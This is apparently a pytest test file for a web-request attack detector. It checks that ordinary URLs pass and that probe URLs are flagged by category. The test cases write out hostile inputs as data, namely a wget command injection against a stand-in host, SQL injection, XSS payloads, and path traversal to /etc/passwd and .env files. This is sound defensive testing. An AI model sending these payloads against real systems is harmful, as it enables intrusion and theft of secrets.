"""Detection rules: the false-positive and detection rates, and each rule's reach."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from stockade.conditions import compile_condition
from stockade.conditions.ruleset import RuleList
from stockade.core.detection import BUILTIN, BUILTIN_NAMES, LEGACY_NAMES, Detector, builtin_rules
from stockade.core.facts import RequestFacts
from stockade.detection import CATEGORIES, Engine, Settings

DATA = Path(__file__).resolve().parents[1] / "data"
DETECTOR = Detector()
PARANOID = Detector(Engine(Settings(level=4)))


def facts_of(url: str) -> RequestFacts:
    parts = urlsplit(url)
    raw = parts.path or "/"
    return RequestFacts(path=unquote(raw), query=parts.query, uri=raw + (f"?{parts.query}" if parts.query else ""))


def urls(name: str) -> list[str]:
    lines = (DATA / name).read_text(encoding="utf-8").splitlines()
    return [line.strip() for line in lines if line.strip() and not line.startswith("#")]


def test_no_ordinary_url_of_real_sites_counts_as_malicious() -> None:
    ordinary = urls("ordinary_urls.txt")
    assert len(ordinary) >= 200
    flagged = [(url, DETECTOR.detect(facts_of(url))) for url in ordinary]
    assert [pair for pair in flagged if pair[1] is not None] == []


def test_every_probe_is_recognised() -> None:
    probes = urls("probe_urls.txt")
    assert len(probes) >= 200
    # Level 4 adds script_extensions: every .php or .aspx page (see test_script_pages_need_level_four).
    missed = [url for url in probes if PARANOID.detect(facts_of(url)) is None]
    assert missed == []


def test_script_pages_need_level_four() -> None:
    for url in ("/index.php", "/default.aspx", "/FOO.PHP", "/page.phtml"):
        assert DETECTOR.detect(facts_of(url)) is None, url
        assert PARANOID.detect(facts_of(url)) == "script_extensions", url


@pytest.mark.parametrize(
    ("url", "category"),
    [
        ("/.env", "sensitive_files"),
        ("/.git/config", "sensitive_files"),
        ("/.htpasswd", "sensitive_files"),
        ("/.vscode/settings.json", "sensitive_files"),
        ("/index.php.bak", "sensitive_files"),
        ("/wp-login.php", "admin_cms"),
        ("/a/..%2f..%2fb", "path_traversal"),
        ("/read?f=/etc/passwd", "path_traversal"),
        ("/?c=;wget%20http://x/a.sh", "command_injection"),
        ("/?id=1%20union%20select%20null,null", "sql_injection"),
        ("/?q=%3Cscript%3E", "xss"),
        ("/?q=style%3Dx:expression(alert(1))", "xss"),
        ("/?q=%3Canimate%20attributeName=onunload%20to=alert(1)%3E", "xss"),
        ("/?=PHPE9568F34-D428-11d2-A769-00AA001ACF42", "scanner"),
        ("/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "scanner"),
        ("/~nobody", "scanner"),
        ("/images/logo.gif~", "sensitive_files"),
        ("/perl.exe?-v", "scanner"),
        ("/php-cgi.exe", "scanner"),
        ("/~postmaster/", "scanner"),
        ("/level/16/exec/show/config", "cve_exploit"),
        ("/config/environments/production.rb", "sensitive_files"),
        ("/app/controllers/application_controller.rb", "sensitive_files"),
    ],
)
def test_each_category_names_its_probes(url: str, category: str) -> None:
    finding = DETECTOR.inspect(facts_of(url))
    assert finding is not None
    assert category in finding.categories


def test_case_and_encodings_hide_nothing() -> None:
    for url in ("/WP-LOGIN.PHP", "/%2Eenv", "/.%67it/config", "/%252e%252e/etc/passwd", "/a%2F..%2F..%2Fb"):
        assert DETECTOR.detect(facts_of(url)) is not None, url


def test_peoples_home_directories_and_ruby_files_of_other_folders_are_not_probes() -> None:
    for url in (
        "/~bob",
        "/~alice/papers/",
        "/~www-team",
        "/gems/foo/lib/foo.rb",
        "/docs/level/1/executive",
        "/downloads/setup.exe",
    ):
        assert DETECTOR.detect(facts_of(url)) is None, url


def test_well_known_is_not_a_dotfile() -> None:
    assert DETECTOR.detect(facts_of("/.well-known/acme-challenge/abc")) is None
    assert DETECTOR.detect(facts_of("/.well-known/../.env")) is not None
    assert DETECTOR.detect(facts_of("/.well-known/.env")) == "env_file"


def test_a_real_route_is_never_counted_by_the_probe_rules() -> None:
    assert DETECTOR.detect(facts_of("/admin.php"), known_route=True) is None
    assert DETECTOR.detect(facts_of("/backup.zip"), known_route=True) is None
    # Injection and traversal are evidence on any route.
    assert DETECTOR.detect(facts_of("/admin.php?id=1%20or%201=1"), known_route=True) == "sqli_tokens"
    assert DETECTOR.detect(facts_of("/files/..%2f..%2fsecret"), known_route=True) == "path_traversal"


def test_user_rules_in_the_condition_language() -> None:
    custom = RuleList([("old-admin", compile_condition('req_path_prefix_in("/old-admin", true)'))])
    detector = Detector(builtin_rules(["env_file"]), custom)
    assert detector.detect(facts_of("/OLD-ADMIN/users")) == "old-admin"
    assert detector.detect(facts_of("/old-admin"), known_route=True) == "old-admin"
    assert detector.detect(facts_of("/.env")) == "env_file"
    assert detector.detect(facts_of("/wp-login.php")) is None  # only env_file was chosen


def test_rule_selection() -> None:
    assert builtin_rules(["builtin"]) == BUILTIN
    chosen = [r.id for r in builtin_rules(["sqli_tokens", "env_file"])]
    assert chosen == ["env_file", "sqli_tokens"]
    assert {r.category for r in builtin_rules(["xss"])} == {"xss"}
    # The first pack's names choose the rules that took their place.
    for name, ids in LEGACY_NAMES.items():
        assert set(ids) <= set(BUILTIN_NAMES), name
    assert [r.id for r in builtin_rules(["shell_injection"])] == list(LEGACY_NAMES["shell_injection"])
    with pytest.raises(ValueError, match="unknown rule 'nope'"):
        builtin_rules(["nope"])
    assert len(set(BUILTIN_NAMES)) == len(BUILTIN_NAMES)
    for rule in BUILTIN:
        assert rule.category in CATEGORIES
        assert rule.description.endswith(".") or rule.description.endswith(")")


def test_the_rule_table_in_the_docs_is_current() -> None:
    import importlib.util  # noqa: PLC0415

    spec = importlib.util.spec_from_file_location("gen_bans_doc", DATA.parents[1] / "scripts" / "gen_bans_doc.py")
    assert spec is not None
    assert spec.loader is not None
    generator = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(generator)
    assert generator.main(["--check"]) == 0, "run: python scripts/gen_bans_doc.py"


def test_the_public_routes_of_the_example_apps_are_never_malicious() -> None:
    # examples/fastapi_app, examples/flask_app and examples/django_project (their URL maps);
    # the integration tests drive the same apps over HTTP with router awareness on.
    routes = ["/", "/login", "/accounts/login/", "/admin/", "/admin/login/", "/admin/stockade/", "/static/app.css"]
    for path in routes:
        assert DETECTOR.detect(facts_of(path)) is None, path
        assert DETECTOR.detect(facts_of(path + "?next=/admin/"), known_route=True) is None, path


def test_the_oracle_memo_answers_as_a_fresh_engine_does_and_stays_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    from stockade.oracle.detection import engine as engine_module  # noqa: PLC0415

    monkeypatch.setattr(engine_module, "_MEMO_ENTRIES", 8)
    oracle = engine_module.Engine()
    mixed = [*urls("ordinary_urls.txt")[:20], *urls("probe_urls.txt")[:20]]
    first = [oracle.inspect_facts(facts_of(url)) for url in mixed]
    again = [oracle.inspect_facts(facts_of(url)) for url in mixed]
    assert first == again == [engine_module.Engine().inspect_facts(facts_of(url)) for url in mixed]
    assert first == [Detector().engine.inspect_facts(facts_of(url)) for url in mixed]
    assert len(oracle._memo) <= 8


def test_a_remembered_url_still_honours_known_routes() -> None:
    detector = Detector()
    assert detector.detect(facts_of("/backup.zip")) == "backup_archive"
    assert detector.detect(facts_of("/backup.zip"), known_route=True) is None


def test_user_rules_are_asked_even_when_the_url_is_remembered() -> None:
    custom = RuleList([("tool", compile_condition('req_ua_regmatch("(?i)^curl/")'))])
    detector = Detector(None, custom)
    clean = RequestFacts(path="/", uri="/", headers=[("User-Agent", "Mozilla/5.0")])
    tool = RequestFacts(path="/", uri="/", headers=[("User-Agent", "curl/8.5.0")])
    assert detector.detect(clean) is None
    assert detector.detect(tool) == "tool"
